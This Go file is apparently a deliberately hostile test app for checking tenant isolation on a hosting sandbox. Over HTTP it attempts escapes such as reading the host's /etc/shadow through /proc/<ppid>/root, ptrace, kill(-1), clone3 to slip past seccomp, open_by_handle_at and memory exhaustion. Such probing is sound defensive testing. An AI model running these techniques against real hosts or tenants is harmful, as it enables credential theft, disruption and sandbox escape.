// Command hostile is a hostile app in Go that attacks another tenant and the host. A request for
// /NAME?of=… performs the attack NAME; the answer begins with "done" or "denied".
package main

import (
	"fmt"
	"net"
	"net/http"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	server := &http.Server{Handler: http.HandlerFunc(serve), ReadHeaderTimeout: time.Minute}
	listener, err := net.FileListener(os.NewFile(3, "listener")) // descriptor 3, as with LISTEN_FDS
	if err == nil {
		err = server.Serve(listener)
	}
	fmt.Fprintln(os.Stderr, "hostile:", err)
	os.Exit(1)
}

// attacks maps names to attacks, each on a target that the request names.
var attacks = map[string]func(of string) (string, error){
	"read":  read,
	"write": func(of string) (string, error) { return "written", appendTo(of) },
	"magic": func(string) (string, error) { return magicLink() },
	"ptrace": func(of string) (string, error) {
		return "attached", onThread(func() error { return unix.PtraceAttach(number(of)) })
	},
	"kill":    func(of string) (string, error) { return "killed", unix.Kill(number(of), unix.SIGKILL) },
	"killall": func(string) (string, error) { return "killed all", unix.Kill(-1, unix.SIGTERM) },
	"dial":    dial,
	"listen":  listen,
	"userns":  func(string) (string, error) { return "has namespaces", newNamespace() },
	"clone3":  func(string) (string, error) { return clone() },
	"handle":  handle,
	"memory":  func(string) (string, error) { return takeMemory() },
}

func serve(w http.ResponseWriter, r *http.Request) {
	attack := attacks[strings.Trim(r.URL.Path, "/")]
	if attack == nil {
		http.NotFound(w, r)
		return
	}
	got, err := attack(r.URL.Query().Get("of"))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		fmt.Fprintf(w, "denied %v", err)
		return
	}
	fmt.Fprintf(w, "done %s", got)
}

func number(text string) int {
	n, err := strconv.Atoi(text)
	if err != nil || n <= 1 {
		return 1 << 30 // no process
	}
	return n
}

func read(path string) (string, error) {
	text, err := os.ReadFile(path)
	return string(text), err
}

func appendTo(path string) error {
	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteString("poison")
	return err
}

// magicLink reads a file of the host by the link to its parent's root folder.
func magicLink() (string, error) {
	return read(fmt.Sprintf("/proc/%d/root/etc/shadow", os.Getppid()))
}

func onThread(act func() error) error {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	return act()
}

func dial(of string) (string, error) {
	network, address, _ := strings.Cut(of, " ")
	c, err := net.DialTimeout(network, address, 3*time.Second)
	if err != nil {
		return "", err
	}
	defer c.Close()
	return "connected", nil
}

func listen(of string) (string, error) {
	l, err := net.Listen("tcp", of)
	if err != nil {
		return "", err
	}
	return "listens", l.Close()
}

func newNamespace() error {
	_, err := os.StartProcess("/bin/true", []string{"true"}, &os.ProcAttr{
		Sys: &unix.SysProcAttr{Cloneflags: unix.CLONE_NEWUSER | unix.CLONE_NEWNET},
	})
	return err
}

// clone creates a process in a new network namespace by clone3(2), whose flags a seccomp filter
// cannot inspect.
func clone() (string, error) {
	var arguments [11]uint64
	arguments[0] = unix.CLONE_NEWUSER | unix.CLONE_NEWNET
	pid, errno := clone3(&arguments)
	if errno != 0 {
		return "", fmt.Errorf("clone3: %w", errno)
	}
	return fmt.Sprint("process ", pid), nil
}

// handle opens a file by its handle, which bypasses the folders on the way.
func handle(path string) (string, error) {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
	if err != nil {
		return "", fmt.Errorf("name_to_handle_at: %w", err)
	}
	dir, err := unix.Open(".", unix.O_RDONLY, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(dir)
	fd, err := unix.OpenByHandleAt(dir, h, unix.O_RDONLY)
	if err != nil {
		return "", fmt.Errorf("open_by_handle_at: %w", err)
	}
	defer unix.Close(fd)
	room := make([]byte, 4096)
	n, err := unix.Read(fd, room)
	return string(room[:max(n, 0)]), err
}

// takeMemory allocates more memory than the app may have.
func takeMemory() (string, error) {
	var kept [][]byte
	for range 512 {
		piece := make([]byte, 1<<20)
		for i := 0; i < len(piece); i += 4096 {
			piece[i] = 1
		}
		kept = append(kept, piece)
	}
	return fmt.Sprint("took MiB ", len(kept)), nil
}
